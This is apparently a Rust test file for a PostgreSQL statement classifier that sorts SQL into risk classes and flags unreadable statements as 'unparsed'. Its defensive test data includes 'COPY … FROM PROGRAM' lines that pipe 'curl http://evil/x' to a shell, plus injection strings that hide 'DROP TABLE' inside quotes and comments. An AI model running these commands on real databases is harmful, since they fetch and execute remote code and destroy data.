//! The classification table: real statements and the classes they must get. A statement the
//! parser cannot read must come out `unparsed`, never as something harmless.

use super::*;

/// (SQL, classes of each statement separated by " | ", each as space-separated class names).
/// A query nested in INSERT, CREATE … AS or COPY is part of that statement and adds no `select`.
/// Statements sqlparser 0.63 cannot read (TABLE, CREATE USER, GRANT role TO, VACUUM ANALYZE, …)
/// are `unparsed` here: rules treat them as the riskiest class until the parser learns them.
const TABLE: &[(&str, &str)] = &[
    // --- reads ---
    ("select 1", "select"),
    ("SELECT * FROM users", "select"),
    ("select id, email from public.users where id = $1", "select"),
    ("select count(*) from orders group by status having count(*) > 1", "select"),
    ("select * from a join b on a.id = b.a_id left join c using (id)", "select"),
    ("select * from users order by created_at desc limit 10 offset 20", "select"),
    ("select distinct on (customer_id) * from orders", "select"),
    ("select * from (select * from users) u", "select"),
    ("select * from users where id in (select user_id from orders)", "select"),
    ("select * from users where exists (select 1 from orders o where o.user_id = users.id)", "select"),
    ("select now(), current_user, version()", "select"),
    ("select 'it''s' as quoted", "select"),
    ("select $$dollar quoted; with semicolon$$", "select"),
    ("select $tag$ drop table users $tag$", "select"),
    ("select 1 -- drop table users", "select"),
    ("select /* delete from users */ 1", "select"),
    ("select * from \"Users\"", "select"),
    ("select \"select\" from \"from\"", "select"),
    ("select generate_series(1, 10)", "select"),
    ("select * from generate_series(1, 3) g", "select"),
    ("select row_number() over (partition by a order by b) from t", "select"),
    ("select * from users for update", "select"),
    ("select * from users for share skip locked", "select"),
    ("select jsonb_build_object('a', 1)", "select"),
    ("select data->>'name' from docs where data @> '{\"a\":1}'", "select"),
    ("select array[1,2,3]", "select"),
    ("select 1 union select 2", "select"),
    ("select 1 union all select 2 except select 3", "select"),
    ("select 1 intersect select 1", "select"),
    ("values (1, 'a'), (2, 'b')", "select"),
    ("table users", "unparsed"),
    // EXECUTE runs a prepared statement whose text is elsewhere (perhaps a protocol-level Parse).
    ("execute s", "unparsed"),
    ("EXECUTE purge(1, 'x')", "unparsed"),
    ("explain analyze execute s", "select unparsed"),
    ("select * from users tablesample bernoulli (10)", "select"),
    ("with recursive t(n) as (select 1 union all select n + 1 from t where n < 5) select * from t", "select"),
    ("with a as (select 1) select * from a", "select"),
    ("select pg_sleep(1)", "select"),
    ("select case when a > 1 then 'x' else 'y' end from t", "select"),
    ("select coalesce(a, b), nullif(c, 0) from t", "select"),
    ("select cast('1' as int), '2'::int", "select"),
    ("select * from users where name ilike '%bob%'", "select"),
    ("select * from users where email ~ '^a'", "select"),
    ("SELECT * FROM information_schema.tables", "select"),
    ("select * from pg_catalog.pg_class", "select"),
    ("show search_path", "select"),
    ("show all", "select"),
    ("explain select * from users", "select"),
    ("explain analyze select * from users", "select"),
    // --- writes ---
    ("insert into users (email) values ('a@b.c')", "insert"),
    ("insert into users values (1, 'x') returning id", "insert"),
    ("insert into users select * from staging", "insert"),
    ("insert into users (id) values (1) on conflict (id) do nothing", "insert"),
    ("insert into users (id, n) values (1, 1) on conflict (id) do update set n = users.n + 1", "insert"),
    ("insert into \"Audit\" default values", "insert"),
    ("update users set name = 'x' where id = 1", "update"),
    ("update users set name = 'x'", "update update-without-where"),
    ("UPDATE users SET active = false", "update update-without-where"),
    ("update users set n = n + 1 where true", "update update-without-where"),
    ("update users u set name = o.name from other o where o.id = u.id", "update"),
    ("update users set name = 'x' where id = 1 returning *", "update"),
    ("delete from users where id = 1", "delete"),
    ("delete from users", "delete delete-without-where"),
    ("DELETE FROM users", "delete delete-without-where"),
    ("delete from users where 1 = 1", "delete delete-without-where"),
    ("delete from users using orders where orders.user_id = users.id", "delete"),
    ("delete from only users where id = 2", "delete"),
    ("delete from users where id = 1 returning id", "delete"),
    ("with gone as (delete from users returning *) select * from gone", "select delete delete-without-where"),
    ("with gone as (delete from users where id = 1 returning *) insert into archive select * from gone", "insert select delete"),
    ("with moved as (update users set a = 1 returning *) select count(*) from moved", "select update update-without-where"),
    ("with ins as (insert into t values (1) returning *) select * from ins", "select insert"),
    ("explain analyze delete from users", "select delete delete-without-where"),
    ("explain update users set a = 1 where id = 2", "select update"),
    ("merge into target t using source s on t.id = s.id when matched then update set v = s.v when not matched then insert (id, v) values (s.id, s.v)", "insert update"),
    // --- DDL ---
    ("create table t (id int primary key)", "ddl create"),
    ("create table if not exists t (id serial, name text not null default '')", "ddl create"),
    ("create temp table t (a int)", "ddl create"),
    ("create unlogged table t (a int)", "ddl create"),
    ("create table t as select * from users", "ddl create"),
    ("create index on users (email)", "ddl create"),
    ("create unique index concurrently users_email on users (lower(email))", "ddl create"),
    ("create view active_users as select * from users where active", "ddl create"),
    ("create materialized view mv as select 1", "ddl create"),
    ("create schema app", "ddl create"),
    ("create schema if not exists app authorization app_owner", "ddl create"),
    ("create sequence s start 100", "ddl create"),
    ("create role reader", "ddl create"),
    ("create user bob with password 'x'", "unparsed"),
    ("create database analytics", "ddl create"),
    ("create extension if not exists pgcrypto", "ddl create"),
    ("create type mood as enum ('sad', 'ok', 'happy')", "ddl create"),
    ("create domain positive as int check (value > 0)", "ddl create"),
    ("create function add(a int, b int) returns int as $$ select a + b $$ language sql", "ddl create"),
    ("create or replace function f() returns trigger as $$ begin return new; end $$ language plpgsql", "ddl create"),
    ("create trigger t_before before insert on users for each row execute function f()", "ddl create"),
    ("create policy p on users using (owner = current_user)", "ddl create"),
    ("alter table users add column age int", "ddl alter"),
    ("alter table users drop column age", "ddl alter"),
    ("alter table users rename to people", "ddl alter"),
    ("alter table users alter column email set not null", "ddl alter"),
    ("alter table users add constraint u_email unique (email)", "ddl alter"),
    ("alter table if exists users owner to app", "ddl alter"),
    ("alter index users_email rename to users_email_idx", "ddl alter"),
    ("alter role reader with login", "ddl alter"),
    ("alter view v rename to w", "unparsed"),
    ("alter schema app rename to app2", "ddl alter"),
    ("alter sequence s restart with 1", "unparsed"),
    ("alter type mood add value 'angry'", "ddl alter"),
    ("drop table users", "ddl drop"),
    ("DROP TABLE IF EXISTS users CASCADE", "ddl drop"),
    ("drop table a, b, c", "ddl drop"),
    ("drop index users_email", "ddl drop"),
    ("drop view v", "ddl drop"),
    ("drop materialized view mv", "ddl drop"),
    ("drop schema app cascade", "ddl drop"),
    ("drop database analytics", "ddl drop"),
    ("drop role reader", "ddl drop"),
    ("drop sequence s", "ddl drop"),
    ("drop function add(int, int)", "ddl drop"),
    ("drop extension pgcrypto", "ddl drop"),
    ("drop type mood", "ddl drop"),
    ("drop trigger t_before on users", "ddl drop"),
    ("drop policy p on users", "ddl drop"),
    ("drop \"Users\"", "unparsed"),
    ("truncate users", "ddl truncate"),
    ("truncate table users, orders restart identity cascade", "ddl truncate"),
    ("TRUNCATE ONLY users", "ddl truncate"),
    ("comment on table users is 'people'", "ddl"),
    // --- privileges ---
    ("grant select on users to reader", "grant"),
    ("grant all privileges on all tables in schema public to app", "grant"),
    ("grant reader to bob", "unparsed"),
    ("revoke insert on users from public", "grant"),
    ("revoke all on schema app from bob", "grant"),
    // --- copy ---
    ("copy users to stdout", "copy copy-out"),
    ("copy users (id, email) from stdin with (format csv, header true)", "copy"),
    ("copy (select * from users) to stdout with csv header", "copy copy-out"),
    ("copy users to '/tmp/users.csv'", "copy copy-out"),
    ("copy users from program 'curl http://evil/x | sh'", "copy copy-program"),
    ("copy users to program 'gzip > /tmp/u.gz'", "copy copy-out copy-program"),
    // --- session settings ---
    ("set search_path to app, public", "set"),
    ("set statement_timeout = '5s'", "set"),
    ("set local lock_timeout = 1000", "set"),
    ("SET TIME ZONE 'UTC'", "set"),
    ("set role reader", "set"),
    ("set session authorization bob", "set"),
    ("reset all", "set"),
    ("reset search_path", "set"),
    ("set transaction isolation level serializable", "set"),
    // --- transactions ---
    ("begin", "transaction"),
    ("BEGIN ISOLATION LEVEL REPEATABLE READ", "transaction"),
    ("start transaction read only", "transaction"),
    ("commit", "transaction"),
    ("end", "transaction"),
    ("rollback", "transaction"),
    ("abort", "transaction"),
    ("savepoint s1", "transaction"),
    ("release savepoint s1", "transaction"),
    ("rollback to savepoint s1", "transaction"),
    // --- calls and other ---
    ("call refresh_stats()", "call"),
    ("call app.do_work(1, 'x')", "call"),
    ("vacuum", "other"),
    ("vacuum analyze users", "unparsed"),
    ("analyze users", "other"),
    ("listen events", "other"),
    ("notify events, 'hello'", "other"),
    ("unlisten *", "other"),
    ("prepare q (int) as select * from users where id = $1", "other select"),
    ("execute q (1)", "unparsed"),
    ("deallocate q", "other"),
    ("discard all", "set"),
    ("lock table users in exclusive mode", "other"),
    ("checkpoint", "unparsed"),
    // --- multi-statement strings (one entry per statement) ---
    ("select 1; select 2", "select | select"),
    ("begin; delete from users; commit", "transaction | delete delete-without-where | transaction"),
    ("select 1; drop table users", "select | ddl drop"),
    ("create table t (a int); insert into t values (1); select * from t", "ddl create | insert | select"),
    ("update t set a = 1 where b = 2; update t set a = 2", "update | update update-without-where"),
    ("set search_path = app; truncate t", "set | ddl truncate"),
    // --- what the parser cannot read is unparsed, never harmless ---
    ("do $$ begin delete from users; end $$", "unparsed"),
    ("DO $$ BEGIN PERFORM 1; END $$", "unparsed"),
    ("selec * from users", "unparsed"),
    ("drop tabel users", "unparsed"),
    ("delete from", "unparsed"),
    ("select * from users where", "unparsed"),
    ("select 1; garbage here", "unparsed"),
    ("\\d users", "unparsed"),
    ("select 'unterminated", "unparsed"),
    ("cluster users using users_pkey", "unparsed"),
    ("refresh materialized view mv", "unparsed"),
    ("reindex table users", "unparsed"),
    ("security label on table users is 'x'", "unparsed"),
];

fn names(classes: &BTreeSet<SqlClass>) -> String {
    classes.iter().map(|c| c.as_str()).collect::<Vec<_>>().join(" ")
}

/// The statements of `table` that do not get their classes, each with what it got instead.
fn misclassified(table: &[(&str, &str)]) -> Vec<String> {
    let mut wrong = Vec::new();
    for (sql, expected) in table {
        let got = classify(sql).iter().map(|s| names(&s.classes)).collect::<Vec<_>>().join(" | ");
        let expected: String = expected
            .split(" | ")
            .map(|statement| {
                let set: BTreeSet<SqlClass> = statement.split(' ').map(|n| n.parse().unwrap()).collect();
                names(&set)
            })
            .collect::<Vec<_>>()
            .join(" | ");
        if got != expected {
            wrong.push(format!("{sql:?}: got [{got}], expected [{expected}]"));
        }
    }
    wrong
}

fn check_table(table: &[(&str, &str)]) {
    let wrong = misclassified(table);
    assert!(wrong.is_empty(), "{} of {} statements classified wrongly:\n{}", wrong.len(), table.len(), wrong.join("\n"));
}

#[test]
fn every_statement_of_the_table_gets_its_classes() {
    assert!(TABLE.len() >= 150, "the table has {} statements", TABLE.len());
    check_table(TABLE);
}

/// WHERE conditions that hold for every row whatever it holds (`true`), and look-alikes that
/// depend on the row or are false (`false`). Each is checked in a DELETE and an UPDATE.
const CONDITIONS: &[(&str, bool)] = &[
    ("true", true),
    ("TRUE", true),
    ("1=1", true),
    ("1 = 1", true),
    ("'a'='a'", true),
    ("NOT false", true),
    ("not not true", true),
    ("true OR x", true),
    ("x OR 1=1", true),
    ("x = 1 or y = 2 or true", true),
    ("(1=1)", true),
    ("((true))", true),
    ("1::bool", true),
    ("CAST(1 AS boolean)", true),
    ("'yes'::boolean", true),
    ("' T '::bool", true),
    ("'on'::bool", true),
    ("boolean 't'", true),
    ("'t'", true),
    ("id IS NOT NULL OR true", true),
    ("2>1", true),
    ("-1 < 0", true),
    ("1 + 1 = 2", true),
    ("'1' = 1", true),
    ("true = 't'", true),
    ("'same' = 'same'", true),
    ("$$x$$ = 'x'", true),
    ("E'\\x' = E'\\x'", true),
    ("true AND 1=1", true),
    ("true IS TRUE", true),
    ("false IS NOT TRUE", true),
    ("null IS NULL", true),
    ("null IS UNKNOWN", true),
    ("'a' IS NOT NULL", true),
    ("'a' IS NOT DISTINCT FROM 'a'", true),
    ("null IS NOT DISTINCT FROM null", true),
    ("'a' IS DISTINCT FROM null", true),
    ("'a' IN ('a', 'b')", true),
    ("true NOT IN (false)", true),
    ("1 IN (1, 2)", true),
    ("1 BETWEEN 0 AND 2", true),
    ("NOT ('a' <> 'a')", true),
    ("true OR (SELECT false)", true),
    // The same for every row but unknown here, so it may be true: parameters, and numbers,
    // whose values are never used (classes must not depend on them).
    ("$1", true),
    ("x = 1 OR $1", true),
    ("$1 = $2", true),
    ("1.5 > 1", true),
    ("'a' < 'b'", true),
    ("1=2", true),
    ("0::bool", true),
    ("5 BETWEEN 0 AND 2", true),
    // Look-alikes: false, null, or depending on the row.
    ("false", false),
    ("NOT true", false),
    ("'a' <> 'a'", false),
    ("null", false),
    ("1 = null", false),
    ("x = null", false),
    ("null IS NOT NULL", false),
    ("'a' IS NULL", false),
    ("true IS FALSE", false),
    ("'no'::boolean", false),
    ("'of'::boolean", false),
    ("'f'", false),
    ("NOT ('a'='a')", false),
    ("true AND false", false),
    ("false AND $1", false),
    ("x = 1", false),
    ("true AND x", false),
    ("x OR false", false),
    ("x OR null", false),
    ("x = 1 AND $1", false),
    ("x = $1", false),
    ("-x < 0", false),
    ("id IS NOT NULL", false),
    ("id = id", false),
    ("'a' = x", false),
    ("x IN (1, 2)", false),
    ("'a' IN (x, y)", false),
    ("x::bool", false),
    ("lower(name) = 'x'", false),
    ("now() > '2000-01-01'", false),
    ("EXISTS (SELECT 1 FROM u WHERE u.id = t.id)", false),
    ("CASE WHEN true THEN true END", false),
    ("current_user = 'bob'", false),
];

#[test]
fn a_condition_true_for_every_row_is_no_condition() {
    let mut wrong = Vec::new();
    for &(condition, every_row) in CONDITIONS {
        for (sql, class) in [
            (format!("delete from t where {condition}"), SqlClass::DeleteWithoutWhere),
            (format!("update t set a = 1 where {condition}"), SqlClass::UpdateWithoutWhere),
        ] {
            let classes = &classify(&sql)[0].classes;
            if classes.contains(&SqlClass::Unparsed) || classes.contains(&class) != every_row {
                wrong.push(format!("{sql:?}: {}", names(classes)));
            }
        }
    }
    assert!(wrong.is_empty(), "{} of {} conditions folded wrongly:\n{}", wrong.len(), CONDITIONS.len() * 2, wrong.join("\n"));
    assert!(CONDITIONS.iter().filter(|c| c.1).count() >= 30 && CONDITIONS.iter().filter(|c| !c.1).count() >= 30);
}

/// A join in USING or FROM does not narrow the rows of a condition that holds for every row.
/// Folding stops at a depth limit: a `true` buried under more operators than that is not seen.
#[test]
fn joins_do_not_narrow_and_folding_is_bounded() {
    check_table(&[
        ("delete from t using u where true", "delete delete-without-where"),
        ("delete from t using u", "delete delete-without-where"),
        ("delete from t using u where u.id = t.id", "delete"),
        ("update t set a = 1 from u where 1 = 1", "update update-without-where"),
        ("update t set a = u.a from u where u.id = t.id", "update"),
    ]);
    let deep = |n: usize| format!("delete from t where true{}", " or x".repeat(n));
    assert!(classify(&deep(60))[0].classes.contains(&SqlClass::DeleteWithoutWhere));
    assert_eq!(names(&classify(&deep(100))[0].classes), "delete");
    let long = format!("delete from t where {} = 1", vec!["1"; 10_000].join(" + "));
    assert_eq!(names(&classify(&long)[0].classes), "delete");
}

/// Numbers rewritten as the gateway's cache key writes them (every number that does not continue a
/// word, in text free of quotes, dollar signs, backslashes and comments) leave every statement's
/// classes and tables as they were.
#[test]
fn classes_do_not_depend_on_the_values_of_numbers() {
    let renumber = |sql: &str| -> Option<String> {
        let plain = !sql.contains(['\'', '"', '$', '\\', '#']) && !sql.contains("--") && !sql.contains("/*");
        let mut out = String::new();
        let mut previous = ' ';
        for c in sql.chars() {
            let starts = c.is_ascii_digit() && !(previous.is_ascii_alphanumeric() || previous == '_');
            out.push(if c.is_ascii_digit() && (starts || previous == '9') { '9' } else { c });
            previous = if c.is_ascii_digit() && (starts || previous == '9') { '9' } else { c };
        }
        (plain && out != sql).then_some(out)
    };
    let conditions: Vec<String> = CONDITIONS.iter().map(|(c, _)| format!("delete from t where {c}")).collect();
    let statements = TABLE.iter().map(|(sql, _)| *sql).chain(conditions.iter().map(String::as_str));
    let mut renumbered = 0;
    for sql in statements {
        if let Some(other) = renumber(sql) {
            renumbered += 1;
            assert_eq!(classify(sql), classify(&other), "{sql:?} and {other:?}");
        }
    }
    assert!(renumbered >= 30, "{renumbered} statements renumbered");
}

/// MERGE gets the classes of its actions; it changes every row when its ON holds for every
/// pair (WHEN MATCHED) or for none (WHEN NOT MATCHED BY SOURCE) and the action is not narrowed.
#[test]
fn merge_does_what_its_actions_do() {
    check_table(&[
        ("merge into t using s on t.id = s.id when matched then delete", "delete"),
        ("merge into t using s on true when matched then delete", "delete delete-without-where"),
        ("MERGE INTO t USING s ON 1 = 1 WHEN MATCHED THEN DELETE", "delete delete-without-where"),
        ("merge into t using s on true when matched and s.x = 1 then delete", "delete"),
        ("merge into t using s on true when matched and true then delete", "delete delete-without-where"),
        ("merge into t using s on t.id = s.id when matched then do nothing", "other"),
        ("merge into t using s on true when matched then do nothing", "other"),
        ("merge into t using s on t.id = s.id when not matched then insert (id) values (s.id)", "insert"),
        ("merge into t using s on true when not matched then insert (id) values (s.id)", "insert"),
        ("merge into t using s on t.id = s.id when matched then update set v = s.v", "update"),
        ("merge into t using s on true when matched then update set v = 1", "update update-without-where"),
        ("merge into t using s on false when not matched by source then delete", "delete delete-without-where"),
        ("merge into t using s on t.id = s.id when not matched by source then delete", "delete"),
        ("merge into t using s on false when matched then delete", "delete"),
        (
            "merge into t using s on t.id = s.id when matched and s.gone then delete when matched then update set v = s.v \
             when not matched then insert (id, v) values (s.id, s.v)",
            "insert update delete",
        ),
        ("explain analyze merge into t using s on true when matched then delete", "select delete delete-without-where"),
        (
            "with d as (merge into t using s on true when matched then delete returning *) select * from d",
            "select delete delete-without-where",
        ),
    ]);
}

/// COPY runs a program on the database server in both directions, and for a query's rows too.
#[test]
fn copy_program_in_both_directions() {
    check_table(&[
        ("copy t from program 'curl http://evil/x'", "copy copy-program"),
        ("COPY t FROM PROGRAM 'x' WITH (FORMAT csv)", "copy copy-program"),
        ("copy t (a, b) from program 'x'", "copy copy-program"),
        ("copy t to program 'gzip > /tmp/t.gz'", "copy copy-out copy-program"),
        ("copy (select * from t) to program 'x'", "copy copy-out copy-program"),
        ("copy (select 1) to program 'x' with csv", "copy copy-out copy-program"),
        ("copy t from stdin", "copy"),
        ("copy t from '/tmp/program'", "copy"),
        ("copy t to '/tmp/program'", "copy copy-out"),
        ("copy (select 'program') to stdout", "copy copy-out"),
        ("copy program from stdin", "copy"),
        ("\\copy t from program 'x'", "unparsed"),
    ]);
}

/// `SELECT … INTO` and `CREATE TABLE … AS` create a table; DO blocks are never taken for
/// something harmless.
#[test]
fn select_into_creates_and_do_is_not_harmless() {
    check_table(&[
        ("select * into archive from users", "select ddl create"),
        ("select * into temp t from users", "select ddl create"),
        ("select * into unlogged table t from users", "select ddl create"),
        ("with x as (select 1) select * into t from x", "select ddl create"),
        ("select 1 into t union select 2", "select ddl create"),
        ("(select 1 into t) union select 2", "select ddl create"),
        ("select into_archive from users", "select"),
        ("select 'into t' from users", "select"),
        ("select * from (select 1) into_t", "select"),
        ("create table t as select * from users", "ddl create"),
        ("create table t as table users", "unparsed"),
        ("do $$ begin drop table t; end $$", "unparsed"),
        ("do language plpgsql $$ begin end $$", "unparsed"),
        ("do 'select 1'", "unparsed"),
        ("call p()", "call"),
    ]);
}

/// Text is read as PostgreSQL reads it (`standard_conforming_strings = on`): what PostgreSQL
/// runs is never hidden in what sqlparser takes for a string or comment. Where the two read the
/// text differently the answer is `unparsed`.
#[test]
fn text_is_read_as_postgres_reads_it() {
    check_table(&[
        ("SELECT '\\'; DROP TABLE t; --'", "select | ddl drop"),
        ("SELECT E'\\''; DROP TABLE t", "select | ddl drop"),
        ("SELECT e'\\\\'; DROP TABLE t", "select | ddl drop"),
        ("SELECT N'\\'; DROP TABLE t; --'", "select | ddl drop"),
        ("SELECT $$;DROP TABLE t;$$", "select"),
        ("SELECT $a$ $$ $a$; DROP TABLE t", "select | ddl drop"),
        ("SELECT $a$ $A$; DROP TABLE t; $a$", "select"),
        ("/* /* */ DROP TABLE t; */ SELECT 1", "select"),
        ("SELECT 1; /* a */ /* b /* c */ d */ DROP TABLE t", "select | ddl drop"),
        ("SELECT 1 /*/ DROP TABLE t; */", "select"),
        ("SELECT U&'d\\0061t\\+000061'", "select"),
        ("SELECT U&'\\'; DROP TABLE t; --'", "unparsed"),
        ("SELECT U&'a!0061' UESCAPE '!'; DROP TABLE t", "unparsed"),
        ("SELECT \"a\"\"b\" FROM t", "select"),
        ("SELECT \"a\"\"; DROP TABLE t; --\" FROM t", "select"),
        ("SELECT 1 AS x$a$; DROP TABLE t; SELECT 1 AS y$a$", "select | ddl drop | select"),
        ("SELECT 1; --x\rDROP TABLE t", "select | ddl drop"),
        ("SELECT 0x1F; DROP TABLE t", "select | ddl drop"),
        ("SELECT 'a'\n'b'", "select"),
        ("SELECT $é$ x $é$", "select"),
        // Read differently: PostgreSQL (up to 14) sees the parameter $1 and runs the DROP.
        ("PREPARE p(int) AS SELECT $1a$; DROP TABLE t; --$1a$", "unparsed"),
        // The continued string keeps E'…' rules in PostgreSQL, which runs the DROP.
        ("SELECT E'a'\n'\\'' ; DROP TABLE t; --'", "unparsed"),
        ("SELECT B'01''; DROP TABLE t; --'", "unparsed"),
        ("SELECT 0x'ab'", "unparsed"),
        ("SELECT $€$ x $€$", "unparsed"),
        ("SELECT U&\"d\\0061t\" FROM t", "unparsed"),
        ("SELECT 1 /* unterminated", "unparsed"),
        ("SELECT $$ unterminated", "unparsed"),
    ]);
}

#[test]
fn tables_are_named_as_rules_match_them() {
    let check = |sql: &str, expect: &[&str]| assert_eq!(classify(sql)[0].tables, expect, "{sql}");
    check("select * from Users join app.Orders o on true", &["users", "app.orders"]);
    check("delete from \"Users\" where id = 1", &["Users"]);
    check("with x as (delete from audit returning *) select * from x", &["audit", "x"]);
    check("insert into archive select * from users", &["archive", "users"]);
    check("select 1", &[]);
}

#[test]
fn class_names_round_trip() {
    for class in SqlClass::ALL {
        assert_eq!(class.as_str().parse::<SqlClass>().unwrap(), class);
    }
    assert!("deletes".parse::<SqlClass>().is_err());
}
